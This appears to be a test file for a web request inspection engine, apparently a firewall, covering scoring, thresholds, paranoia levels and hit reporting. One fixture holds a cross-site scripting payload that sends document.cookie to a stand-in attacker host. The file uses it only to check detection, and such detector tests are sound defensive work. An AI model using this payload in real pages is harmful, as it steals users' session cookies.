import { expect, test } from "bun:test";
import { createEngine } from "./engine.ts";
import type { Pattern } from "./engine-types.ts";
import { requestOf, requestWith, usualOptions } from "./testing/inspect.ts";

const finding = (
  id: number,
  severity: Pattern["severity"],
  needle: string,
  paranoia: Pattern["paranoia"] = 1,
): Pattern => ({
  id,
  title: `Finds ${needle}`,
  category: "protocol",
  paranoia,
  severity,
  view: "plain",
  needs: [needle],
  find: (text) => (text.includes(needle) ? needle : null),
});

const patterns = [
  finding(1, "critical", "red"),
  finding(2, "medium", "green"),
  finding(3, "low", "blue"),
  finding(4, "critical", "grey", 2),
];
const inspect = (text: string, options = {}) =>
  createEngine({ ...usualOptions, ...options }, patterns).inspect(requestOf(text));

test("a severe finding blocks alone, weak ones when they come together", () => {
  expect(inspect("red")).toMatchObject({ score: 5, isAttack: true });
  expect(inspect("green")).toMatchObject({ score: 3, isAttack: false });
  expect(inspect("green and blue")).toMatchObject({ score: 5, isAttack: true });
});

test("a pattern counts once, however often it finds something", () => {
  const request = requestWith({ query: "a=green&b=green&c=green" });
  expect(createEngine(usualOptions, patterns).inspect(request)).toMatchObject({ score: 3, isAttack: false });
});

test("threshold, level of paranoia and switched-off patterns are the admin's", () => {
  expect(inspect("red", { threshold: 6 }).isAttack).toBe(false);
  expect(inspect("grey").isAttack).toBe(false);
  expect(inspect("grey", { paranoia: 2 }).isAttack).toBe(true);
  expect(inspect("red", { switchedOff: new Set([1]) })).toMatchObject({ score: 0, hits: [] });
});

test("what is an attack eight times over is looked at no further", () => {
  const words = "abcdefghijkl".split("");
  const many = words.map((letter, index) => finding(index + 1, "critical", `${letter}${letter}`));
  const text = requestOf(words.map((letter) => letter + letter).join(" "));
  const { hits, isAttack } = createEngine(usualOptions, many).inspect(text);
  expect([hits.length, isAttack]).toEqual([8, true]);
  const patient = createEngine({ ...usualOptions, threshold: 55 }, many).inspect(text);
  expect([patient.score, patient.isAttack]).toEqual([55, true]);
});

test("in a message naming a thing passes, being one is blocked", () => {
  const script: Pattern = {
    ...finding(9, "critical", "<script"),
    category: "cross-site-scripting",
    view: "markup",
  };
  const scoreOf = (text: string) => createEngine(usualOptions, [script]).inspect(requestOf(text)).score;
  const around = (piece: string): string =>
    `Is it the ${piece} that you have in your page, or is this not on there?`;
  expect(scoreOf(around('<script src="/embed.js"></script>'))).toBe(1);
  expect(scoreOf(around("<script>fetch('//evil.example/'+document.cookie)</script>"))).toBe(5);
  expect(scoreOf('<script src="/embed.js"></script>')).toBe(5);
});

test("a finding tells what was found, where and why", () => {
  expect(inspect("a RED one").hits).toEqual([
    {
      pattern: 1,
      title: "Finds red",
      category: "protocol",
      score: 5,
      place: "query",
      name: "q",
      excerpt: "a red one",
    },
  ]);
});

test("what cannot be looked through whole counts as an attack", () => {
  expect(createEngine(usualOptions, []).inspect(requestWith({ body: new Uint8Array(70_000) }))).toEqual({
    score: 0,
    isAttack: true,
    hits: [],
    obstacle: "too-large",
  });
});
